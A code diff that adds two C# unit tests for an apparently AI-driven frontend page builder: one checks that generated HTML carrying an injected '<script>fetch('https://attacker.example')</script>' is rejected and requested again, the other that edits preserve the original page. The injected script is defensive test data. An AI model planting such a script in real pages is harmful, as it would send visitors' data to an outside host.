@@ -74,6 +74,17 @@ public sealed class FrontendAgentTests(SharedTea shared) : IClassFixture<SharedT
     }
 
     [Fact]
+    public async Task BuildAsync_DocumentWithAScript_IsAskedForWithout()
+    {
+        FakeChatClient client = Model([Fenced(TeaPage.Html.Replace("</body>", "<script>fetch('https://attacker.example')</script></body>", StringComparison.Ordinal)), Fenced(TeaPage.Html)]);
+
+        FrontendResult result = await new FrontendAgent(client, shared.Renderer).BuildAsync(Reference, _folder.Path, cancellationToken: TestContext.Current.CancellationToken);
+
+        Assert.Contains("holds scripts", client.Requests[2].Messages[^1].Text, StringComparison.Ordinal);
+        Assert.DoesNotContain("attacker", result.Best!.Html, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task BuildAsync_EditThatDoesNotFit_IsExplainedToTheModel()
     {
         FakeChatClient client = Model([Fenced(TeaPage.Draft), Edit("no such text", "x"), Edit("padding: ", "x"), Edit("#334488; color: #fff; padding: 18px", "#1f6f50; color: #fff; padding: 18px")]);
@@ -211,6 +222,18 @@ public sealed class FrontendAgentTests(SharedTea shared) : IClassFixture<SharedT
 
         Assert.Equal(("shop/index.html", 1.0), (JsonDocument.Parse(built).RootElement.GetProperty("page").GetString(), JsonDocument.Parse(built).RootElement.GetProperty("likeness").GetDouble()));
         Assert.Contains("is no file of the workspace. It has shot.png", refused, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task ChangeAsync_PageOfAnotherHand_IsKeptAsItWas()
+    {
+        await File.WriteAllTextAsync(_folder.File("index.html"), TeaPage.Html, TestContext.Current.CancellationToken);
+        var client = new FakeChatClient(Reply(Edit("<h1>Teas of the season</h1>", "<h1>All teas</h1>")), Reply("yes"));
+
+        await new FrontendAgent(client, shared.Renderer).ChangeAsync(_folder.Path, "Rename the heading", 560, cancellationToken: TestContext.Current.CancellationToken);
+
+        Assert.Contains("Teas of the season", await File.ReadAllTextAsync(_folder.File("rounds/0.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
+        Assert.Contains("All teas", await File.ReadAllTextAsync(_folder.File("index.html"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
     }
 
     [Fact]
